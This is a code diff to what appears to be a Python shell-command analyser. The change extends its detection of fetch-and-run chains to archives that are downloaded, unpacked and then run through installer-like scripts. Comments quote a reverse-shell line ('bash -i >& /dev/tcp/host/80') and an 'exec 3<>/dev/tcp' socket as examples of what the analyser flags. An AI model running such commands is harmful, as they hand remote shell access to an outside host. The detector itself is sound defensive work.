@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import posixpath
+import re
 from collections.abc import Iterator
 from typing import TYPE_CHECKING, Final, NamedTuple
 from urllib.parse import urlsplit
@@ -29,6 +30,9 @@ _WGET: Final = names(
     "-O -o -P -a -t -T -U -e -i -w -Q --output-document --directory-prefix --tries --timeout --user-agent --header --user"
 )
 _SHELL_VALUES: Final = names("-o +o -O +O --rcfile --init-file")
+_UNPACKS: Final = frozenset({"tar", "gtar", "bsdtar", "unzip", "7z", "cpio"})
+_INSTALLER: Final = re.compile(r"(?i)(?:install|setup|bootstrap)[\w.-]*|[\w.-]+\.(?:sh|bash|run)")
+"""What of an unpacked archive is run unread as a rule; `./configure` and what a build makes are not meant."""
 _MOST: Final = 64
 _LONGEST: Final = 64 * 1024
 
@@ -48,12 +52,14 @@ class Files:
     def __init__(self) -> None:
         self.sources: dict[str, tuple[str, ...]] = {}
         self.texts: dict[str, str] = {}
+        self.unpacked: tuple[str, ...] = ()
+        """The programs that fetched an archive which the line has unpacked."""
         self.socket = False
         """A descriptor is open to the network: `exec 3<>/dev/tcp/host/80`."""
 
     def __bool__(self) -> bool:
         """Whether the line has made anything that it may run."""
-        return bool(self.sources or self.texts or self.socket)
+        return bool(self.sources or self.texts or self.unpacked or self.socket)
 
     def keep(self, text: str | None) -> str | None:
         """The path of a file that holds what `<(…)` prints; None where that cannot be told."""
@@ -66,6 +72,9 @@ class Files:
     def note(self, command: Command, text: str | None) -> None:
         """Take over what a command writes; `text` is what it prints, where that is known."""
         program = command.program
+        if program in _UNPACKS:
+            piped = tuple(name for name in command.piped_from if name in _FETCHERS)
+            self.unpacked = piped or self.read_by(command) or self.unpacked
         if not command.redirects and program not in _FETCHERS and program not in _PASSES_ON:
             return
         targets = [(sign, _path(command, target)) for sign, target in command.redirects if sign[:1] in (">", "&")]
@@ -112,10 +121,13 @@ class Files:
             self.socket = True
             if command.program in SHELLS or find_interpreter(command.program):
                 return None, (SOCKET,)  # bash -i >& /dev/tcp/host/80 0>&1
-        if not self.sources and not self.texts:
+        if not self.sources and not self.texts and not self.unpacked:
             return None, (SOCKET,) if self.socket and command.program in SHELLS and not command.words else ()
         path = _path(command, _script(command, word))
-        return self.texts.get(path), self.sources.get(path, ())
+        sources = self.sources.get(path, ())
+        if not sources and self.unpacked and _INSTALLER.fullmatch(posixpath.basename(path)):
+            sources = self.unpacked
+        return self.texts.get(path), sources
 
 
 def _script(command: Command, word: str) -> str:
